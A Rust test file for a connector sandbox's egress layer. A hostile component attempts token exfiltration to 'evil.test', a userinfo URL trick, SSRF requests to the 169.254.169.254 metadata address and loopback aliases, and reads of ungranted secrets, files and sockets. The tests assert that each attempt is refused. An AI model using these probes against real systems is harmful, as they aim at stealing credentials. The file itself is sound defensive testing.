//! The sandbox holds: a hostile component tries every door it should not open, through
//! the real runtime and the real egress layer, and each attempt is refused with the
//! right code while the host keeps serving.

use keyway_host::context::{ConnectionContext, Grants};
use keyway_host::egress::{
    Bindings, Egress, EgressConfig, EgressLimits, FnPolicy, InjectFormat, InjectRule, TokenError,
    TokenSource,
};
use keyway_host::runtime::{LoadedComponent, RouteRequest, Runtime};
use keyway_host::types::{BoxFuture, Method};
use keyway_tests::provider::LocalApi;
use keyway_tests::{components, test_runtime_config};
use secrecy::SecretString;
use serde_json::Value;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

const ACCESS_1: &str = "canary-access-token-first-0a1b";
const ACCESS_2: &str = "canary-access-token-second-2c3d";

/// Tokens with a counter: the first token until a forced refresh, then the second.
#[derive(Default)]
struct CountingTokens {
    refreshes: AtomicUsize,
}

impl TokenSource for CountingTokens {
    fn token(&self, _min_ttl: Duration) -> BoxFuture<'_, Result<String, TokenError>> {
        Box::pin(async move {
            Ok(if self.refreshes.load(Ordering::SeqCst) == 0 {
                ACCESS_1
            } else {
                ACCESS_2
            }
            .to_string())
        })
    }

    fn force_refresh(&self) -> BoxFuture<'_, Result<String, TokenError>> {
        Box::pin(async move {
            self.refreshes.fetch_add(1, Ordering::SeqCst);
            Ok(ACCESS_2.to_string())
        })
    }
}

struct Fixture {
    component: LoadedComponent,
    api: LocalApi,
    tokens: Arc<CountingTokens>,
}

/// The allowlist: the local API's origin, and `https://*.example.test/`.
fn policy(api: &LocalApi) -> FnPolicy<impl Fn(&url::Url) -> bool + Send + Sync + use<>> {
    let port = api.addr.port();
    FnPolicy(move |url: &url::Url| {
        let host = url.host_str().unwrap_or_default();
        (url.scheme() == "http" && host == "127.0.0.1" && url.port() == Some(port))
            || (url.scheme() == "https" && host.ends_with(".example.test"))
            || host == "169.254.169.254"
            || host == "[::ffff:7f00:1]"
            || host == "localhost"
    })
}

async fn fixture() -> Fixture {
    let runtime = Runtime::new(test_runtime_config()).expect("runtime");
    let component = runtime
        .load_component("hostile", Path::new(components::HOSTILE))
        .await
        .expect("hostile loads");
    let api = LocalApi::start().await;
    Fixture {
        component,
        api,
        tokens: Arc::new(CountingTokens::default()),
    }
}

/// A rule admitting the local API's origin, in `header` after `prefix`.
fn api_rule(f: &Fixture, header: &'static str, prefix: &str) -> InjectRule {
    let port = f.api.addr.port();
    InjectRule {
        admits: Arc::new(FnPolicy(move |u: &url::Url| {
            u.host_str() == Some("127.0.0.1") && u.port() == Some(port)
        })),
        describe: "test rule (the local API)".into(),
        header: hyper::header::HeaderName::from_static(header),
        format: InjectFormat::Prefix(prefix.into()),
    }
}

/// The token and `api_token` may go to the local API as bearer credentials.
fn bindings(f: &Fixture) -> Bindings {
    let mut b = Bindings {
        oauth: vec![api_rule(f, "authorization", "Bearer ")],
        ..Bindings::default()
    };
    b.secrets.insert(
        "api_token".into(),
        vec![api_rule(f, "authorization", "Bearer ")],
    );
    b
}

fn context(f: &Fixture, allow_loopback: bool, expose_token: bool) -> ConnectionContext {
    context_with(f, allow_loopback, expose_token, bindings(f))
}

fn context_with(
    f: &Fixture,
    allow_loopback: bool,
    expose_token: bool,
    bindings: Bindings,
) -> ConnectionContext {
    let egress = Egress::new(EgressConfig {
        allowed_cidrs: if allow_loopback {
            vec!["127.0.0.1/32".parse().expect("cidr")]
        } else {
            vec![]
        },
        ..EgressConfig::default()
    })
    .expect("egress");
    let limits = EgressLimits {
        max_response_body_bytes: 1 << 20,
        ..EgressLimits::default()
    };
    ConnectionContext::builder("hostile")
        .connection("hostile-test")
        .secret(
            "api_token",
            SecretString::from("canary-secret-setting-4e5f"),
        )
        .secret(
            "webhook_secret",
            SecretString::from("canary-webhook-secret-6a7b"),
        )
        .grants(Grants {
            readable_secrets: ["webhook_secret".to_string()].into(),
            injectable_secrets: ["api_token".to_string()].into(),
            writable_entities: ["Customer".to_string()].into(),
            secret_settings: ["api_token".to_string(), "webhook_secret".to_string()].into(),
            expose_access_token: expose_token,
            has_oauth: true,
            ..Grants::default()
        })
        .http_policy(Arc::new(policy(&f.api)))
        .bindings(bindings)
        .egress(Arc::new(egress), limits)
        .tokens(f.tokens.clone())
        .build()
}

async fn call(
    f: &Fixture,
    ctx: &ConnectionContext,
    method: Method,
    path: &str,
    query: &[(&str, &str)],
) -> Value {
    let mut req = RouteRequest::new(method, path);
    req.query = query
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    let res = f
        .component
        .invoke(ctx, req)
        .await
        .expect("the route answers");
    let text = String::from_utf8_lossy(&res.body).into_owned();
    for canary in [ACCESS_1, ACCESS_2, "canary-secret-setting-4e5f"] {
        assert!(
            !text.contains(canary),
            "a secret reached the guest's answer: {text}"
        );
    }
    serde_json::from_str(&text).expect("JSON answer")
}

async fn http(f: &Fixture, ctx: &ConnectionContext, url: &str, auth: &str) -> Value {
    call(
        f,
        ctx,
        Method::Get,
        "/http",
        &[("url", url), ("auth", auth)],
    )
    .await
}

fn refused(v: &Value, code: &str) -> String {
    assert_eq!(v["ok"], false, "expected a refusal: {v}");
    assert_eq!(v["code"], code, "{v}");
    v["message"].as_str().unwrap_or_default().to_string()
}

#[tokio::test]
async fn outbound_requests_outside_the_allowlist_are_denied() {
    let f = fixture().await;
    let ctx = context(&f, true, true);
    let msg = refused(
        &http(&f, &ctx, "https://evil.test/steal", "oauth").await,
        "denied",
    );
    assert!(
        msg.contains("https://evil.test"),
        "the origin is named: {msg}"
    );
    // A userinfo trick: the real host is evil.test.
    let trick = format!("http://127.0.0.1:{}@evil.test/", f.api.addr.port());
    refused(&http(&f, &ctx, &trick, "oauth").await, "denied");
    // Another port on an allowed host.
    refused(
        &http(&f, &ctx, "http://127.0.0.1:1/ok", "none").await,
        "denied",
    );
    // Not a URL at all.
    refused(&http(&f, &ctx, "not a url", "none").await, "invalid_input");
    assert!(f.api.seen().is_empty(), "nothing reached the API");
}

#[tokio::test]
async fn private_and_loopback_addresses_are_refused_without_an_operator_cidr() {
    let f = fixture().await;
    let ctx = context(&f, false, true);
    refused(&http(&f, &ctx, &f.api.url("/ok"), "oauth").await, "denied");
    refused(
        &http(&f, &ctx, "http://169.254.169.254/latest/meta-data/", "none").await,
        "denied",
    );
    refused(
        &http(&f, &ctx, "http://[::ffff:7f00:1]/ok", "none").await,
        "denied",
    );
    refused(
        &http(&f, &ctx, "http://localhost/ok", "none").await,
        "denied",
    );
    assert!(f.api.seen().is_empty(), "nothing reached the API");
    assert_eq!(f.tokens.refreshes.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn the_token_is_injected_host_side_and_a_401_refreshes_once() {
    let f = fixture().await;
    let ctx = context(&f, true, false);
    let v = http(&f, &ctx, &f.api.url("/ok"), "oauth").await;
    assert_eq!(v["value"]["status"], 200, "{v}");
    let seen = f.api.seen();
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("Bearer {ACCESS_1}").as_str())
    );

    // The header is the rule's, not the guest's.
    let mut shopify = bindings(&f);
    shopify.oauth = vec![api_rule(&f, "x-shopify-access-token", "")];
    let shopify_ctx = context_with(&f, true, false, shopify);
    let v = http(&f, &shopify_ctx, &f.api.url("/ok"), "oauth").await;
    assert_eq!(v["value"]["status"], 200, "{v}");
    let seen = f.api.seen();
    assert_eq!(seen[1].header("x-shopify-access-token"), Some(ACCESS_1));
    assert_eq!(seen[1].header("authorization"), None);

    f.api.fail_auth(1);
    let v = http(&f, &ctx, &f.api.url("/flaky"), "oauth").await;
    assert_eq!(v["value"]["status"], 200, "{v}");
    assert_eq!(
        f.tokens.refreshes.load(Ordering::SeqCst),
        1,
        "one forced refresh"
    );
    let last = f.api.seen().pop().expect("retried");
    assert_eq!(
        last.header("authorization"),
        Some(format!("Bearer {ACCESS_2}").as_str())
    );

    // Strict custody: the guest cannot read the token it just used.
    let msg = refused(
        &call(&f, &ctx, Method::Get, "/token", &[]).await,
        "not_permitted",
    );
    assert!(msg.contains("strict custody"), "{msg}");
}

#[tokio::test]
async fn redirects_are_returned_not_followed_and_big_bodies_are_capped() {
    let f = fixture().await;
    let ctx = context(&f, true, true);
    let v = http(&f, &ctx, &f.api.url("/redirect"), "oauth").await;
    assert_eq!(v["value"]["status"], 302, "{v}");
    assert_eq!(v["value"]["location"], "http://127.0.0.2:9/elsewhere");
    assert_eq!(f.api.seen().len(), 1, "the redirect was not followed");

    let msg = refused(
        &http(&f, &ctx, &f.api.url("/big"), "none").await,
        "too_large",
    );
    assert!(!msg.is_empty());
}

#[tokio::test]
async fn ungranted_secrets_and_entities_are_not_permitted() {
    let f = fixture().await;
    let ctx = context(&f, true, true);
    refused(
        &call(&f, &ctx, Method::Get, "/secret", &[("name", "api_token")]).await,
        "not_permitted",
    );
    let v = call(
        &f,
        &ctx,
        Method::Get,
        "/secret",
        &[("name", "webhook_secret")],
    )
    .await;
    assert_eq!(v["ok"], true, "a granted secret is readable: {v}");
    refused(
        &call(&f, &ctx, Method::Post, "/ingest", &[("entity", "Invoice")]).await,
        "not_permitted",
    );
    // An injection of a secret setting works without the guest reading it.
    let v = http(&f, &ctx, &f.api.url("/ok"), "secret").await;
    assert_eq!(v["value"]["status"], 200, "{v}");
    assert_eq!(
        f.api.seen()[0].header("authorization"),
        Some("Bearer canary-secret-setting-4e5f")
    );
}

#[tokio::test]
async fn no_files_no_environment_no_sockets() {
    let f = fixture().await;
    let ctx = context(&f, true, true);
    let v = call(&f, &ctx, Method::Get, "/file", &[]).await;
    for attempt in v["attempts"].as_array().expect("attempts") {
        assert_eq!(attempt["opened"], false, "{attempt}");
    }
    let v = call(&f, &ctx, Method::Get, "/env", &[]).await;
    assert_eq!(v["vars"], 0, "{v}");
    assert_eq!(v["home"], Value::Null);
    assert_eq!(v["path"], Value::Null);
    assert_eq!(v["args"], 0);
    let v = call(&f, &ctx, Method::Get, "/socket", &[]).await;
    for kind in ["tcp", "udp", "dns"] {
        assert!(v[kind].is_string(), "{kind} must fail: {v}");
    }
    // And the host still serves.
    let v = http(&f, &ctx, &f.api.url("/ok"), "none").await;
    assert_eq!(v["value"]["status"], 200, "{v}");
}

/// The manifest's own `permissions.http` patterns drive the allowlist: `*.example.test`
/// admits subdomains only, never `example.test` itself, and never another scheme.
#[tokio::test]
async fn manifest_wildcards_match_subdomains_only() {
    let dir = tempfile::tempdir().expect("tempdir");
    let conn = dir.path().join("wild");
    std::fs::create_dir(&conn).expect("mkdir");
    let manifest = serde_json::json!({
        "key": "wild", "name": "Wild", "provider": "none", "kind": "source", "version": "0.1.0",
        "permissions": { "http": ["https://*.example.test/*"], "entities": {}, "secrets": {} },
        "connection": { "settingsSchema": { "type": "object", "properties": {} } }
    });
    std::fs::write(conn.join("connector.json"), manifest.to_string()).expect("manifest");
    std::fs::copy(components::HOSTILE, conn.join("connector.wasm")).expect("component");
    let runtime = Runtime::new(test_runtime_config()).expect("runtime");
    let loaded = keyway_host::registry::load(&runtime, &conn, None)
        .await
        .expect("loads");
    let settings = loaded
        .connector()
        .validate_settings(&serde_json::Map::new())
        .expect("no settings needed");
    let doors = keyway_host::registry::Doors {
        egress: Some(Arc::new(
            Egress::new(EgressConfig::default()).expect("egress"),
        )),
        ..Default::default()
    };
    let auth = loaded.connector().auth(None).expect("a single way");
    let ctx = loaded.context(None, auth, &settings, &doors);
    let attempt = |url: &str| {
        let mut req = RouteRequest::new(Method::Get, "/http");
        req.query = vec![("url".into(), url.into())];
        req
    };
    for url in [
        "https://example.test/",
        "http://api.example.test/",
        "https://example.test.evil.test/",
    ] {
        let res = loaded
            .component
            .invoke(&ctx, attempt(url))
            .await
            .expect("answers");
        let v: Value = serde_json::from_slice(&res.body).expect("json");
        assert_eq!(v["code"], "denied", "{url}: {v}");
    }
    // A subdomain passes the allowlist and is stopped only by the network (no such host
    // resolves here), not by the policy.
    let res = loaded
        .component
        .invoke(&ctx, attempt("https://api.example.test/v1"))
        .await
        .expect("answers");
    let v: Value = serde_json::from_slice(&res.body).expect("json");
    assert_ne!(v["code"], "denied", "{v}");
}
